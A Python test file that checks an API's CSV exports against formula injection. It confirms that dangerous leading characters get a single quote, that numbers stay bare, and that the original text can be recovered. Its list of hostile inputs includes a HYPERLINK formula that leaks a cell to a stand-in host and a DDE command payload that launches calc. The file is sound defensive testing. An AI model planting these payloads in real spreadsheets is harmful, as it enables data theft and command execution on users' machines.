"""CSV injection (OWASP): a text cell that starts with `=`, `+`, `-`, `@`, TAB or CR (or a
quote, so the rule can be undone) gets one leading `'`; numbers stay bare numbers; text cells are
always quoted. On every CSV the API writes: audits (free text from tenants), findings and
projects (the reviewed seed)."""

import csv
import io
from collections.abc import Iterator

import pytest
from fastapi.testclient import TestClient

from tests.helpers import condition_slugs, create_audit, operator_env, tenant

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+1",
    "-3",
    "@SUM(A1:A9)",
    "\t=1+2",
    "\r=cmd|' /C calc'!A0",
    "'=already quoted",
    "fine;=1+2",  # a spreadsheet that splits on `;` must keep this one cell
    "Plain text stays as it is",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module", autouse=True)
def _operator_token() -> Iterator[None]:
    yield from operator_env()


def _rows(body: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def _cells(body: bytes) -> list[list[str | float]]:
    """The data rows as a spreadsheet sees them: a quoted cell is text, a bare one a number."""
    lines = io.StringIO(body.decode("utf-8-sig"), newline="")
    next(lines)  # the header
    return list(csv.reader(lines, quoting=csv.QUOTE_NONNUMERIC))


def _assert_safe(body: bytes) -> None:
    for row in _cells(body):
        for cell in row:
            assert isinstance(cell, float) or not cell.startswith(TRIGGERS), row


def _recover(cell: str) -> str:
    """What docs/security.md tells a reader to do: drop the one quote the API added."""
    return cell[1:] if cell.startswith("'") else cell


def test_audit_answers_are_neutralised_and_recoverable(client: TestClient) -> None:
    headers = tenant(client)
    slugs = condition_slugs(client)
    written = dict(zip(slugs, HOSTILE, strict=False))
    assert len(written) == len(HOSTILE)
    answers = [{"condition": c, "current_practice": t, "rating": 3} for c, t in written.items()]
    created = create_audit(client, headers, answers, title="=TITLE()")
    for url in ("/v1/audits?format=csv", f"{created.json()['href']}?format=csv"):
        response = client.get(url, headers=headers)
        assert response.status_code == 200 and response.headers["content-type"].startswith(
            "text/csv"
        )
        rows = _rows(response.content)
        got = {r["condition"]: r["current_practice"] for r in rows}
        assert got == {
            c: "'" + t if t.startswith((*TRIGGERS, "'")) else t for c, t in written.items()
        }
        assert {c: _recover(cell) for c, cell in got.items()} == written
        assert {r["audit_title"] for r in rows} == {"'=TITLE()"}
        _assert_safe(response.content)
        ratings = {r["condition"]: r["rating"] for r in rows}
        assert set(ratings.values()) == {"3"}
        assert all(3.0 in row for row in _cells(response.content))  # a bare number
        assert '"fine;=1+2"' in response.text


def test_findings_and_projects_keep_numbers_and_neutralise_text(client: TestClient) -> None:
    findings = client.get("/v1/findings", params={"format": "csv"})
    rows = _rows(findings.content)
    # Values are magnitudes (seed/SCHEMA.md) and stay bare numbers, never quoted text.
    values = [float(r["result_value"]) for r in rows if r["result_value"]]
    assert values and all(any(v in row for row in _cells(findings.content)) for v in values[:5])
    # Their statements are text, so one that starts with "-" is neutralised.
    assert any(r["statement"].startswith("'-") for r in rows)
    _assert_safe(findings.content)
    projects = client.get("/v1/projects", params={"format": "csv"})
    assert _rows(projects.content)
    _assert_safe(projects.content)
